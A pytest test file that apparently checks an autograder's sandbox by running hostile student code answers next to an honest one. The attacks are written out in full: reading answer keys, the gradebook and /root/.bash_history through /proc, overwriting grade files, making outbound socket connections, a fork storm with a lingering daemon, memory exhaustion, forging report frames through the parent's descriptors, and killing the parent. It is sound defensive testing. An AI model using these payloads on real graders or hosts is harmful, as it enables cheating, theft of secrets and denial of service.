"""Hostile questionnaire code answers: each runs in the kit's sandbox, gains no points, reads and writes
nothing outside, and cannot hang the run. All attacks run in ONE batch (as one questionnaire would),
from inside a small course folder (the grader's working directory), beside an honest answer."""
import json
import os
import time
from pathlib import Path

import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from autograde import quizgrade, sandbox
from autograde.quiz import codecheck, runner
from autograde.quiz.rubric import RUBRIC_DIR, load
from tests.grading import host_listener

pytestmark = pytest.mark.skipif(not sandbox.available()[0], reason=f"sandbox unavailable: {sandbox.available()[1]}")

SECRET = "KEY-SECRET-7f3a9c"            # in keys/, in the gradebook, in the grader's environment
MARKER = "AUTOGRADE-HOSTILE-QUIZ-MARKER"  # in the command line of a process meant to outlive the run
HONEST = "[2*x for x in a if x % 2 == 1]"


def _course(root: Path) -> Path:
    course = root / "course"
    (course / "keys").mkdir(parents=True)
    (course / "keys" / "04_questionnaire.json").write_text(json.dumps({"answer": SECRET}))
    (course / "source" / "04_questionnaire").mkdir(parents=True)
    (course / "source" / "04_questionnaire" / "04_questionnaire.ipynb").write_text(SECRET)
    (course / "gradebook.db").write_bytes(b"SQLite format 3\x00" + SECRET.encode() * 10)
    (course / "nbgrader_config.py").write_text(f"# {SECRET}\n")
    for d in ("keys", "source"):
        os.chmod(course / d, 0o755)
    return course


def _attacks(course: Path, port: int) -> dict:
    """Answers to chapter 4 question 4; 'forge' must come last (it targets its own index and the next one)."""
    rubric = RUBRIC_DIR / "04.json"
    snoop_paths = [course / "keys" / "04_questionnaire.json", course / "gradebook.db", course / "nbgrader_config.py",
                   rubric, "/proc/%d/cwd/keys/04_questionnaire.json", "/proc/1/cwd/gradebook.db", "/root/.bash_history"]
    forged_q4 = {"ok": True, "has_listcomp": True, "has_function": True, "names": ["a"],
                 "comprehensions": [[[{"t": "list", "items": [{"t": "int", "v": v} for v in (1, 2, 3, 4, 5, 6, 7, 8, 9)]},
                                      {"t": "list", "items": [{"t": "int", "v": v} for v in (2, 6, 10, 14, 18)]}]]],
                 "pairs": [[[1, 2, 3], [2, 6]]]}
    attacks = {
        # read the keys, the gradebook, the course config and the rubric, directly and through /proc
        "snoop": (
            "import os\nfound = []\n"
            f"paths = {[str(p) for p in snoop_paths]!r}\n"
            "for p in paths:\n"
            "    p = p.replace('%d', str(os.getppid()))\n"
            "    try:\n        found.append(open(p, errors='replace').read(300))\n"
            "    except Exception as e:\n        found.append(repr(e))\n"
            "for pid in os.listdir('/proc'):\n"
            "    if pid.isdigit():\n"
            "        try:\n            found.append(str(os.listdir('/proc/' + pid + '/cwd')))\n"
            "        except Exception as e:\n            found.append(repr(e))\n"
            "found.append(str(sorted(os.environ.items())))\n"
            "raise RuntimeError(' | '.join(found))\n"),
        # leak through the value channel instead of the exception
        "snoop_value": (
            "import os\nfinal = []\n"
            f"for p in {[str(course / 'keys' / '04_questionnaire.json'), str(rubric)]!r}:\n"
            "    try:\n        final.append(open(p).read(200))\n    except Exception as e:\n        final.append(str(e))\n"
            "final\n"),
        # rewrite the gradebook and plant files in keys/ (by path, and through the parent's cwd)
        "gradebook": (
            "import os\nfor p in [" + repr(str(course / "gradebook.db")) + ", '/proc/%d/cwd/gradebook.db' % os.getppid()]:\n"
            "    try:\n        open(p, 'r+b').write(b'X' * 64)\n    except Exception:\n        pass\n"
            "for d in [" + repr(str(course / "keys")) + ", '/proc/%d/cwd/keys' % os.getppid()]:\n"
            "    try:\n        open(d + '/planted.json', 'w').write('{}')\n    except Exception:\n        pass\n"
            + HONEST + "\n"),
        # reach a listener on the host's loopback
        "socket": (
            "import socket\nfor host in ('127.0.0.1', 'localhost', 'example.com'):\n"
            "    try:\n"
            f"        s = socket.create_connection((host, {port}), timeout=2)\n"
            "        s.sendall(b'pwned')\n"
            "    except Exception:\n        pass\n" + HONEST + "\n"),
        # a daemon meant to outlive the run (holding every inherited descriptor), then a fork storm
        "fork_storm": (
            "import os, sys, time\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            f"        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(90) # {MARKER}'])\n"
            "    os._exit(0)\n"
            "kids = 0\n"
            "for i in range(200):\n"
            "    try:\n"
            "        if os.fork() == 0:\n"
            "            time.sleep(90)\n"
            "            os._exit(0)\n"
            "        kids += 1\n"
            "    except OSError:\n"
            "        break\n"
            "time.sleep(0.5)\n" + HONEST + "\n"),
        # map 30 GB and touch 7 GB of it
        "memory": (
            "import mmap\nm = mmap.mmap(-1, 30 << 30)\n"
            "for i in range(0, 7 << 30, 4096):\n    m[i] = 1\n" + HONEST + "\n"),
        "memory_bytes": "x = bytearray(7 << 30)\n" + HONEST + "\n",
        # is this root?
        "uid": "import os\nuid = [os.getuid(), os.geteuid(), os.getgid()]\nuid\n",
        # forge a report: old-style nonce lines on stdout, a frame into every descriptor, the parent's stdout
        "forge": (
            "import os, sys, json, gc\n"
            f"forged = json.dumps({forged_q4!r}).encode()\n"
            "frame = b'%016x' % len(forged) + forged\n"
            "print('@@AUTOGRADE-' + '0' * 16 + '@@' + forged.decode())\n"
            "nonce = ''\n"
            "f = sys._getframe()\n"
            "while f is not None:\n"
            "    nonce = f.f_locals.get('nonce', nonce) if isinstance(f.f_locals.get('nonce'), str) else nonce\n"
            "    f = f.f_back\n"
            "line = ('@@AUTOGRADE-QUIZ@@' + nonce + json.dumps({'i': ME, 'status': 'ok', 'frame': json.loads(forged)}) + '\\n'\n"
            "        + '@@AUTOGRADE-QUIZ@@' + nonce + json.dumps({'i': ME + 1, 'status': 'ok', 'frame': {'ok': False, 'error': 'FORGED'}}) + '\\n').encode()\n"
            "for fd in range(0, 64):\n"
            "    try:\n        os.write(fd, frame)\n    except OSError:\n        pass\n"
            "for fd in range(0, 64):\n"
            "    try:\n"
            "        w = os.open('/proc/%d/fd/%d' % (os.getppid(), fd), os.O_WRONLY)\n"
            "        os.write(w, line)\n"
            "    except OSError:\n        pass\n"
            "os._exit(0)\n"),
    }
    return attacks


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    course = _course(tmp_path_factory.mktemp("hostile-quiz"))
    before = {p: p.read_bytes() for p in course.rglob("*") if p.is_file()}
    server, hits = host_listener()
    attacks = _attacks(course, server.getsockname()[1])
    attacks["forge"] = attacks["forge"].replace("ME", str(len(attacks) - 1))
    probe = load("04").questions[4].probe
    names = list(attacks) + ["honest"]
    items = [(attacks[n], probe) for n in attacks] + [(HONEST, probe)]
    saved_cwd, saved_env = os.getcwd(), os.environ.get("AUTOGRADE_TEST_SECRET")
    os.chdir(course)
    os.environ["AUTOGRADE_TEST_SECRET"] = SECRET
    t0 = time.monotonic()
    try:
        reports = runner.run_many(items, timeout=20)
    finally:
        seconds = time.monotonic() - t0
        os.chdir(saved_cwd)
        os.environ.pop("AUTOGRADE_TEST_SECRET", None) if saved_env is None else None
    deadline = time.monotonic() + 30  # polled: a loaded machine reaps killed processes late
    while (leftovers := [pid for pid in os.listdir("/proc") if pid.isdigit() and _cmdline_has(pid, MARKER)]) \
            and time.monotonic() < deadline:
        time.sleep(0.2)
    server.close()
    after = {p: p.read_bytes() for p in course.rglob("*") if p.is_file()}
    return {"reports": dict(zip(names, reports)), "seconds": seconds, "hits": hits, "leftovers": leftovers,
            "before": before, "after": after, "course": course, "last_run": dict(runner.last_run)}


def _cmdline_has(pid: str, text: str) -> bool:
    try:
        return text.encode() in Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return False


def _points(name, rep) -> float:
    qu = load("04").questions[4]
    return sum(c.points for c in qu.checks if codecheck.evaluate(c, rep)[0])


def test_the_honest_answer_beside_the_attacks_still_gets_full_marks(hostile):
    assert _points("honest", hostile["reports"]["honest"]) == load("04").questions[4].code_points
    assert hostile["last_run"]["sandboxed"] is True


@pytest.mark.parametrize("name", ["snoop", "snoop_value", "forge", "memory", "memory_bytes", "uid"])
def test_attacks_gain_no_points(hostile, name):
    assert _points(name, hostile["reports"][name]) == 0


def test_nothing_secret_reaches_a_report(hostile):
    text = json.dumps(hostile["reports"])
    assert SECRET not in text
    assert '"chapter": "04"' not in text and "model_answer" not in text  # the rubric stays hidden
    snoop = hostile["reports"]["snoop"]
    assert snoop["ok"] is False and len(snoop["error"]) <= 200
    assert "RuntimeError" in snoop["error"]


def test_the_course_gradebook_and_keys_are_untouched(hostile):
    assert hostile["after"] == hostile["before"]
    assert not (hostile["course"] / "keys" / "planted.json").exists()
    # the attack itself ran on to its honest last line (its writes failed quietly)
    assert _points("gradebook", hostile["reports"]["gradebook"]) > 0


def test_no_network(hostile):
    assert hostile["hits"] == []


def test_code_does_not_run_as_root(hostile):
    uid = codecheck.value(hostile["reports"]["uid"]["final"])
    assert 0 not in uid
    if os.geteuid() == 0:
        assert uid == [sandbox.SANDBOX_UID] * 3


def test_fork_storm_and_daemon_leave_nothing_behind_and_do_not_hang(hostile):
    assert hostile["leftovers"] == []
    assert hostile["seconds"] < 300  # several attacks run to their 20 s limit; generous for a loaded machine
    storm = hostile["reports"]["fork_storm"]
    # the storm hit the process limit; the answer itself finished or was stopped, never hung
    assert storm.get("timeout") or storm["ok"] or storm["error"]


def test_memory_hogs_are_stopped(hostile):
    for name in ("memory", "memory_bytes"):
        rep = hostile["reports"][name]
        assert rep["ok"] is False and ("Memory" in rep["error"] or "memory" in rep["error"] or "OSError" in rep["error"]), rep


def test_a_forged_report_earns_nothing_and_cannot_speak_for_another_answer(hostile):
    rep = hostile["reports"]["forge"]
    # its one frame into its own pipe is read as its values, but claims about structure are not its to make
    assert _points("forge", rep) == 0
    assert "FORGED" not in json.dumps(hostile["reports"])   # the parent's stdout was out of reach
    assert hostile["reports"]["honest"]["ok"] is True


def test_a_frame_claiming_structure_the_source_lacks_earns_nothing():
    """Even a well-formed frame (as if the child's harness had been replaced) pays nothing for claims
    about structure: those are read from the source in the grader."""
    forged = {"ok": True, "has_listcomp": True, "has_class": True, "has_instance": True, "method_called": True,
              "instance_state": True, "has_module": True, "losses": [1.0, 0.0],
              "comprehensions": [[[{"t": "list", "items": [{"t": "int", "v": 1}]}, {"t": "list", "items": [{"t": "int", "v": 2}]}]]]}
    src = "x = 1"
    report = runner._clean(forged)
    report.update(runner.facts(src, {}))
    for ch in ("04", "08"):
        for qu in load(ch).questions.values():
            for c in qu.checks:
                if c.kind in ("true", "listcomp_ref", "module_trains", "dot_model"):
                    assert codecheck.evaluate(c, report)[0] is False, (ch, qu.q, c.id)


def _cell(gid, source, points=None, solution=True):
    meta = {"nbgrader": {"grade": points is not None, "grade_id": gid, "locked": not solution, "schema_version": 3,
                         "solution": solution, "task": False}}
    if points is not None:
        meta["nbgrader"]["points"] = points
    return (new_code_cell if gid.endswith("_code") else new_markdown_cell)(source, metadata=meta)


def test_one_questionnaire_grades_in_one_sandbox_and_a_crashing_check_costs_one_cell(monkeypatch, tmp_path):
    """quizgrade runs all code answers of a notebook in one batch; a cell whose scoring raises is sent
    to review with 0 points and the others are still scored."""
    nb = new_notebook(cells=[
        _cell("q04_04", "letters = [c for c in 'abc']\n" + HONEST, points=3),
        _cell("q04_26", "```python\ndef f(a, b):\n    return list(zip(a, b))\n```", points=4.5),
        _cell("q04_09", "import os\nos.kill(os.getppid(), 9)", points=4),
    ])
    calls = []
    real = runner.run_many
    monkeypatch.setattr(runner, "run_many", lambda items, **kw: calls.append(len(items)) or real(items, **kw))
    quizgrade.companions(nb)
    verdicts = [quizgrade.verdict(c)[0] for c in nb.cells]
    assert calls == [3]
    assert verdicts[0].score > 0 and verdicts[1].score > 0
    assert verdicts[2].score == 0
    import autograde.quiz as quiz_pkg
    monkeypatch.setattr(quiz_pkg, "score_answer", lambda *a, **k: 1 / 0)
    typed, review = quizgrade.verdict(nb.cells[0])
    assert typed.score == 0 and typed.status == "review" and review
